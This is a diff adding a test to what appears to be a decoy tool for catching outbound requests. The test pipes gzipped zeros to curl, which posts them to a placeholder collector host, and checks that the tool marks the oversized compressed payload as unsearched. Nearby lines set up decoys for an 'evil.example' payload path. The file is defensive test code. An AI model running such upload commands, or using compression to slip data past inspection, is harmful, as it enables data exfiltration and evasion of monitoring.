@@ -120,6 +120,10 @@ class Decoy(DecoyTest):
         self.assertEqual([r["service"] for r in before], ["metadata"] * 3)
         self.assertNotIn("canaries", before[-1])
 
+    def test_what_is_not_searched_is_said(self):
+        self.decoyed(f"head -c 8M /dev/zero | gzip >zeros; {CURL} --data-binary @zeros https://collector.example/")
+        self.assertEqual([r["unsearched"] for r in self.requests()], ["it inflates to too much"])
+
     def test_decoys_of_a_file(self):
         file = self.dir / "decoys.json"
         file.write_text(json.dumps([{"host": "*.evil.example", "path": "/payload", "body": "echo from the decoy\n"},
